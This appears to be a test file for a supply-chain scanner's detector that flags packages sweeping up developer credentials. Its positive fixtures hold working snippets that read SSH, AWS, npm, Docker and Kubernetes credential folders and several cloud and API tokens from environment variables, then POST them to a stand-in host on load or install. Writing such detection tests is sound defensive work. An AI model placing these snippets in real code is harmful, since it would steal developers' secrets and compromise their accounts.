import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { credentialSweep } from "./index.ts";

testDetector(credentialSweep, {
  fires: {
    "a list of folders on loading": [
      "strong",
      loaded(`const fs = require("fs"), os = require("os"), path = require("path");
        for (const name of [".ssh", ".aws", ".npmrc", ".docker", ".kube"]) {
          const place = path.join(os.homedir(), name);
          if (fs.existsSync(place)) fetch("https://collector.invalid/", { method: "POST", body: fs.readFileSync(place) });
        }`),
    ],
    "variables of many owners": [
      "decisive",
      installed(`const taken = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, process.env.AWS_SECRET_ACCESS_KEY, process.env.OPENAI_API_KEY, process.env.AZURE_CLIENT_SECRET];
        fetch("https://collector.invalid/", { method: "POST", body: JSON.stringify(taken) });`),
    ],
  },
  silent: {
    "one cloud's credentials": loaded(`const os = require("os"), fs = require("fs");
      module.exports = () => fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8") + process.env.AWS_REGION;`),
    "documentation of many": {
      ...loaded("module.exports = 1;"),
      "README.md": "Reads .npmrc, .ssh, .aws, .kube and .docker.\n",
    },
  },
});
